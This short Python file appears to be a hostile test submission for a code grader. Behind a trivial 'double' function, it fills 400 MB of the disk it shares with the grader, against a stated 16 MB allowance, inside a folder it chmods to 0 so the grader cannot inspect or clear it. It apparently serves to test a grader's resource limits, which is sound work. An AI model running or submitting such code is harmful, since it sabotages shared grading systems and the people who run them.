# tries: to fill the disk that it shares with the grader, in a folder that an ordinary grader cannot look into
from ipykernel.kernelapp import IPKernelApp
import os, time

folder = os.path.dirname(IPKernelApp.instance().abs_connection_file) + "/closed"
os.mkdir(folder)
files = [open(f"{folder}/{number}", "wb", 0) for number in range(8)]
os.chmod(folder, 0)
for file in files:
    file.write(bytes(50 * 2**20))
time.sleep(3)


def double(x):  # it has 400 MB of the grader's disk, where 16 are allowed
    return 2 * x


# where: last
